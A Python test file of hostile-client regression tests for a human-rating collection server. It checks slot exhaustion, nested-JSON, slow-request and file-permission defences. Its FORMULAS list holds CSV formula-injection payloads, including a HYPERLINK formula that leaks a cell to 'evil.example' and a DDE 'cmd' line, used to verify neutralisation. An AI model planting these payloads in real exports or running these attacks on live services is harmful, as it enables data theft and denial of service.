"""Hostile clients against the collection server: each case reproduces an attack or a silent loss
that once worked and asserts the fix (answers the export could not read, slot exhaustion, deep
JSON, file modes, formula injection in the CSVs)."""

from __future__ import annotations

import json
import os
import secrets
import stat

import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from starlette.testclient import TestClient

from humaneval.cli import main
from humaneval.collect.prolific import read_prolific
from humaneval.collect.values import parse_number
from humaneval.errors import DesignError
from humaneval.serve import create_app, create_study
from humaneval.serve.limits import StartLimit, StartLimiter
from humaneval.serve.study import set_study_id
from tests._designs import cell_texts
from tests.test_serve import NO_LIMIT, TIMING, answers_of, make_design


def new_study(tmp_path, **options):
    design = make_design()
    return create_study(
        design, tmp_path / "study", texts=cell_texts(design), completion_code="CODE1234", **options
    )


def client_of(made, *, host: str = "203.0.113.1", **options) -> TestClient:
    return TestClient(create_app(made.study_dir, **options), client=(host, 40000))


def start(client, made, pid: str, study_id: str = "STUDY1"):
    body = {"prolific_pid": pid, "study_id": study_id, "session_id": "SES" + pid}
    return client.post(f"/api/{made.key}/start", json=body)


def save(client, made, token: str, index: int, answers: dict):
    body = {"token": token, "screen_index": index, "answers": answers, "timing": TIMING}
    return client.post(f"/api/{made.key}/screen", json=body)


@pytest.mark.parametrize(
    "text, number",
    [("7", 7.0), ("7.0", 7.0), ("+3", 3.0), ("-2", -2.0), ("6.5e1", 65.0), (".5", 0.5), (4, 4.0), (4.0, 4.0)],
)
def test_numbers_both_sides_accept(text, number):
    assert parse_number(text) == number


@pytest.mark.parametrize(
    "text", ["٧", "0_7", " 7", "7 ", "inf", "nan", "1e400", "", "7.", "0x7", True, None, [7], "１", "7" * 33]
)
def test_numbers_both_sides_refuse(text):
    if text == "7.":  # a plain decimal with a trailing point is a number on both sides
        assert parse_number(text) == 7.0
        return
    assert parse_number(text) is None
    before = pd.to_numeric(pd.Series([text]), errors="coerce")  # what the export once used
    assert isinstance(text, list | bool) or text is None or before.isna().all() or parse_number(text) is None


def test_every_stored_answer_is_exported(tmp_path):
    """Issue 20.1: "٧" and "0_7" used to be stored (float() reads them) and then dropped by the
    export; now they are refused with 422, and every form that is stored comes out in
    ``collect prolific``."""
    made = new_study(tmp_path, prolific_study_id="STUDY1")
    client = client_of(made, start_limit=NO_LIMIT)
    started = start(client, made, "PIDA").json()
    field = started["form"]["slots"][0]["screens"][0]["entries"][0]["field"]
    for hostile in ("٧", "0_7", " 7", "1e999", "７"):
        answer = {**answers_of(started, 0), field: hostile}
        refused = save(client, made, started["token"], 0, answer)
        assert refused.status_code == 422 and refused.json()["details"] == [
            f"{field}: must be a whole number from 1 to 7"
        ]
    spellings = ["7.0", "+3", "2e0", 5, 6.0, "4"]  # other spellings of whole numbers
    sent = {}
    for index in range(started["total_screens"]):
        answers = answers_of(started, index)
        answers = {k: spellings[(index + j) % len(spellings)] for j, k in enumerate(answers)}
        assert save(client, made, started["token"], index, answers).json()["stored"] is True
        sent.update(answers)
    out = tmp_path / "ratings.csv"
    result = CliRunner().invoke(
        main, ["collect", "prolific", str(made.study_dir), "--out", str(out), "--json"]
    )
    assert result.exit_code == 0, result.output
    counted = json.loads(result.output)
    assert counted["ratings"] + counted["attention_checks"] == len(sent) == started["total_screens"]
    table = read_prolific(made.study_dir).table
    values = dict(zip(table["screen_id"], table["value"], strict=True))
    assert table["value"].notna().all() and len(values) == started["total_screens"]
    assert sorted(map(float, values.values())) == sorted(parse_number(v) for v in sent.values())


def test_a_loop_of_random_pids_cannot_take_all_slots(tmp_path):
    """Issue 20.2: a loop of starts with random PIDs took all slots in 0.39 s. Now a wrong STUDY_ID
    is refused, and one address gets a burst of 5 new participants and then waits."""
    made = new_study(tmp_path, prolific_study_id="STUDY1")
    attacker = client_of(made, host="198.51.100.7")
    wrong = [start(attacker, made, secrets.token_hex(8), study_id=secrets.token_hex(12)) for _ in range(20)]
    assert {(r.status_code, r.json()["error"]) for r in wrong} == {(403, "wrong_study")}
    right = [start(attacker, made, secrets.token_hex(8)) for _ in range(50)]
    codes = [r.status_code for r in right]
    assert codes[:5] == [200] * 5 and set(codes[5:]) == {429}
    limited = right[5]
    assert limited.json()["error"] == "rate_limited" and 55 <= int(limited.headers["retry-after"]) <= 60
    # a participant resuming is never limited; real participants from other addresses get the rest
    again = start(attacker, made, json.loads(right[0].request.content)["prolific_pid"])
    assert again.status_code == 200
    people = [start(client_of(made, host=f"192.0.2.{i}"), made, f"REAL{i}") for i in range(made.slots - 5)]
    assert all(r.status_code == 200 for r in people)
    status = client_of(made).get(
        f"/admin/{made.key}/status",
        headers={"Authorization": f"Bearer {made.token_path.read_text().strip()}"},
    )
    assert status.json()["participants"] == made.slots


def test_start_limiter_refills_over_time():
    limiter = StartLimiter(StartLimit(burst=2, every_s=30))
    assert [limiter.retry_after("a", 0.0) for _ in range(3)] == [0.0, 0.0, 30.0]
    assert limiter.retry_after("b", 0.0) == 0.0  # per address
    assert limiter.retry_after("a", 15.0) == pytest.approx(15.0)
    assert limiter.retry_after("a", 30.0) == 0.0
    # a proxy that does not forward addresses shows up as loopback: never limited
    assert [limiter.retry_after(host, 0.0) for host in ("127.0.0.1", "::1") for _ in range(5)] == [0.0] * 10
    assert StartLimit.parse("3/10") == StartLimit(3, 10.0) and not StartLimit.parse("off").enabled
    with pytest.raises(DesignError, match="BURST/SECONDS"):
        StartLimit.parse("many")


def test_pilot_mode_needs_the_explicit_flag(tmp_path):
    made = new_study(tmp_path)
    with pytest.raises(DesignError, match="no Prolific STUDY_ID is set"):
        create_app(made.study_dir)
    refused = CliRunner().invoke(main, ["serve", str(made.study_dir)])
    assert refused.exit_code == 2 and "or run a pilot with --pilot" in refused.output
    pilot = client_of(made, pilot=True)
    assert start(pilot, made, "TEST_me", study_id="TEST").status_code == 200  # the page's ?test= link
    set_study_id(made.study_dir, "65f0c0ffee0123456789abcd")
    live = client_of(made, host="192.0.2.9")
    assert start(live, made, "TEST_you", study_id="TEST").json()["error"] == "wrong_study"
    assert start(live, made, "REAL1", study_id="65f0c0ffee0123456789abcd").status_code == 200
    result = CliRunner().invoke(main, ["serve", "set-study-id", str(made.study_dir), "bad id!"])
    assert result.exit_code == 2 and "STUDY_ID 'bad id!' must be" in result.output
    participants = read_prolific(made.study_dir).participants
    assert sorted(participants["pilot"]) == [False, True]  # the pilot participant is marked


def test_deeply_nested_json_is_a_400_without_traceback(tmp_path, caplog):
    made = new_study(tmp_path, prolific_study_id="STUDY1")
    client = client_of(made)
    for depth in (1500, 60_000):
        response = client.post(
            f"/api/{made.key}/start", content=b"[" * depth, headers={"content-type": "application/json"}
        )
        assert (response.status_code, response.json()["error"]) == (400, "invalid_json")
        assert response.json()["details"] == ["the body is nested too deeply"]
    assert "Traceback" not in caplog.text and "RecursionError" not in caplog.text


def test_database_and_its_side_files_are_private(tmp_path):
    old = os.umask(0o022)
    try:
        made = new_study(tmp_path, prolific_study_id="STUDY1")
        client = client_of(made)
        started = start(client, made, "PIDA").json()
        save(client, made, started["token"], 0, answers_of(started, 0))
        files = [made.db_path, *(made.db_path.with_name(made.db_path.name + s) for s in ("-wal", "-shm"))]
        assert all(f.exists() for f in files)
        assert {stat.S_IMODE(f.stat().st_mode) for f in files} == {0o600}
        assert stat.S_IMODE(made.study_dir.stat().st_mode) == 0o700
        backup = tmp_path / "copy.sqlite"
        assert CliRunner().invoke(main, ["serve", "backup", str(made.study_dir), str(backup)]).exit_code == 0
        assert stat.S_IMODE(backup.stat().st_mode) == 0o600
        # an older study made 0644 is tightened when the server opens it
        os.chmod(made.db_path, 0o644)
        client_of(made)
        assert stat.S_IMODE(made.db_path.stat().st_mode) == 0o600
    finally:
        os.umask(old)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "\r=1",
]


def test_formulas_in_comments_are_neutralised_in_every_csv(tmp_path):
    """Issue 20.3: ``=HYPERLINK(...)`` in a comment came out verbatim in the admin CSV and in
    ``collect prolific --table``; every CSV now starts such a cell with an apostrophe."""
    made = new_study(tmp_path, prolific_study_id="STUDY1")
    client = client_of(made)
    started = start(client, made, "PIDA").json()
    for index in range(started["total_screens"]):
        body = {
            "token": started["token"],
            "screen_index": index,
            "answers": answers_of(started, index),
            "timing": TIMING,
            "comment": FORMULAS[index % len(FORMULAS)],
        }
        assert client.post(f"/api/{made.key}/screen", json=body).status_code == 200
    headers = {"Authorization": f"Bearer {made.token_path.read_text().strip()}"}
    raw = client.get(f"/admin/{made.key}/export?format=json", headers=headers).json()
    assert {r["comment"] for r in raw} == set(FORMULAS[: started["total_screens"]])  # JSON keeps the text
    admin_csv = client.get(f"/admin/{made.key}/export?format=csv", headers=headers).text
    table, participants = tmp_path / "table.csv", tmp_path / "participants.csv"
    args = ["collect", "prolific", str(made.study_dir), "--out", str(tmp_path / "r.csv")]
    result = CliRunner().invoke(main, [*args, "--table", str(table), "--participants", str(participants)])
    assert result.exit_code == 0, result.output
    for text in (admin_csv, table.read_bytes().decode("utf-8")):
        comments = pd.read_csv(pd.io.common.StringIO(text), keep_default_na=False)["comment"]
        assert set(comments) == {"'" + f for f in FORMULAS[: started["total_screens"]]}
    exported = pd.read_csv(table, keep_default_na=False)
    risky = exported.map(lambda v: isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\t", "\r")))
    assert not risky.any().any()
    assert pd.read_csv(participants)["screens_saved"].tolist() == [started["total_screens"]]


def test_formulas_in_mturk_outputs_are_neutralised(tmp_path):
    import numpy as np

    from tests.test_mturk import small_design, synthesize

    design = small_design("likert")
    design.write(tmp_path / "design.csv")
    results, _ = synthesize(design, np.random.default_rng(3))
    comment_columns = [c for c in results.columns if c.startswith("Answer.tm_")][:3]
    for column, formula in zip(comment_columns, FORMULAS, strict=False):
        results[column.replace("Answer.tm_", "Answer.cm_")] = formula
    results.to_csv(tmp_path / "batch.csv", index=False)
    table = tmp_path / "long.csv"
    args = ["collect", "mturk", str(tmp_path / "batch.csv"), "--design", str(tmp_path / "design.csv")]
    result = CliRunner().invoke(main, [*args, "--out", str(tmp_path / "r.csv"), "--table", str(table)])
    assert result.exit_code == 0, result.output
    comments = set(pd.read_csv(table, keep_default_na=False)["comment"]) - {""}
    assert comments == {"'" + f for f in FORMULAS[:3]}


def test_admin_dashboard_counts_and_keeps_ids_private(tmp_path):
    """Issue 20.8: the dashboard page holds no data; its JSON (token only) has the progress per
    block, completions, returns, timeouts and QC flags, with pseudonyms only."""
    from tests.test_serve import Clock

    design = make_design()
    made = create_study(design, tmp_path / "study", texts=cell_texts(design), prolific_study_id="STUDY1")
    clock = Clock()
    client = TestClient(create_app(made.study_dir, clock=clock, start_limit=NO_LIMIT))
    token = made.token_path.read_text().strip()
    headers = {"Authorization": f"Bearer {token}"}

    def take_part(pid: str, screens: int | None = None, checks: str = "pass") -> dict:
        started = start(client, made, pid).json()
        rows = design.table[design.table["annotator_slot"] == started["slot"]]
        for index in range(started["total_screens"] if screens is None else screens):
            answers = answers_of(started, index)
            row = rows[rows["position"] == index].iloc[0]
            if row["is_check"]:
                field = started["form"]["slots"][0]["screens"][index]["entries"][0]["field"]
                answers = {field: str(int(float(row["check_expected"]))) if checks == "pass" else "1"}
            assert save(client, made, started["token"], index, answers).status_code == 200
        return started

    done = take_part("PDONE")  # b000-a1 complete
    failed = take_part("PFAIL", checks="fail")  # b001-a1 complete, fails both IMCs
    take_part("PBACK", screens=1)  # b002-a1: returns the study, the admin releases the slot
    assert client.post(f"/admin/{made.key}/release", headers=headers, json={"prolific_pid": "PBACK"}).json()[
        "slot_freed"
    ]
    take_part("PSLOW", screens=1)  # takes b002-a1 again, then never comes back
    clock.now += 3600  # beyond the slot timeout
    take_part("PNEXT", screens=0)  # its start expires PSLOW's reservation; no screen saved yet
    page = client.get(f"/admin/{made.key}/")
    assert page.status_code == 200 and "nonce-" in page.headers["content-security-policy"]
    assert "PDONE" not in page.text and "w_" not in page.text and token not in page.text
    assert client.get(f"/admin/{made.key}/dashboard").status_code == 401
    assert (
        client.get(f"/admin/{made.key}/dashboard", headers={"Authorization": "Bearer nope"}).status_code
        == 403
    )
    board = client.get(f"/admin/{made.key}/dashboard", headers=headers)
    data = board.json()
    assert [(b["block"], b["complete"], b["in_progress"], b["free"]) for b in data["blocks"]] == [
        (0, 1, 0, 1),
        (1, 1, 0, 1),
        (2, 0, 1, 1),
    ]
    assert data["totals"] == {
        "planned": 6,
        "complete": 2,
        "in_progress": 1,
        "free": 3,
        "returned": 1,
        "timed_out": 1,
        "late": 0,
    }
    states = {p["slot"] + ":" + p["state"]: p for p in data["participants"]}
    assert sorted(states) == [
        "b000-a1:complete",
        "b001-a1:complete",
        "b002-a1:in_progress",
        "b002-a1:returned",
        "b002-a1:timed_out",
    ]
    assert states["b001-a1:complete"]["flags"][:1] == ["rejection_eligible"]
    assert states["b001-a1:complete"]["checks"] == "0/2" and states["b000-a1:complete"]["checks"] == "2/2"
    assert "rejection_eligible" not in states["b000-a1:complete"]["flags"]
    assert done["slot"] == "b000-a1" and failed["slot"] == "b001-a1"
    for pid in ("PDONE", "PFAIL", "PBACK", "PSLOW", "PNEXT"):
        assert pid not in board.text


@settings(max_examples=400, deadline=None)
@given(st.one_of(st.text(max_size=22), st.integers(), st.floats(), st.booleans(), st.none()))
def test_what_the_server_accepts_the_export_reads_back_the_same(value):
    """The server stores the JSON value; the export reads ``str(value)``: same number or both refuse."""
    number = parse_number(value)
    if number is not None:
        assert parse_number(str(value)) == number


# ---------------------------------------------------------------- slow and half-sent requests (issue 33)


def test_half_sent_requests_are_closed_in_bounded_time(tmp_path):
    """A loopback `humaneval serve --request-timeout 1`: connections that never finish their request (no
    bytes, half a request line, headers without the blank line, a body shorter than its length) are
    closed within seconds, and a whole request is served meanwhile. uvicorn alone keeps them open for ever."""
    import socket
    import time

    import httpx

    from humaneval.serve.loadtest import free_port, spawn_server

    made = new_study(tmp_path)
    port = free_port()
    process = spawn_server(made.study_dir, port, options=["--pilot", "--request-timeout", "1"])
    try:
        partial = [
            b"",
            b"GET /healthz HT",
            b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: 1\r\n",
            f"POST /api/{made.key}/start HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n".encode()
            + b"Content-Length: 1000\r\n\r\n{",
        ] * 10
        opened = time.monotonic()
        sockets = []
        for data in partial:
            sock = socket.create_connection(("127.0.0.1", port), timeout=15)
            sock.sendall(data)
            sockets.append(sock)
        assert httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=5).status_code == 200
        closed_after = []
        for sock, data in zip(sockets, partial, strict=True):
            received = b""
            while chunk := sock.recv(4096):  # until the server closes the connection
                received += chunk
            closed_after.append(time.monotonic() - opened)
            assert received == b"" or received.startswith(b"HTTP/1.1 408"), (data, received)
            sock.close()
        assert max(closed_after) < 8, closed_after
        sock = socket.create_connection(("127.0.0.1", port), timeout=15)  # keep-alive is bounded too
        sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        start, received = time.monotonic(), b""
        while chunk := sock.recv(4096):
            received += chunk
        assert received.startswith(b"HTTP/1.1 200") and time.monotonic() - start < 8
        sock.close()
    finally:
        process.terminate()
        process.wait(timeout=30)
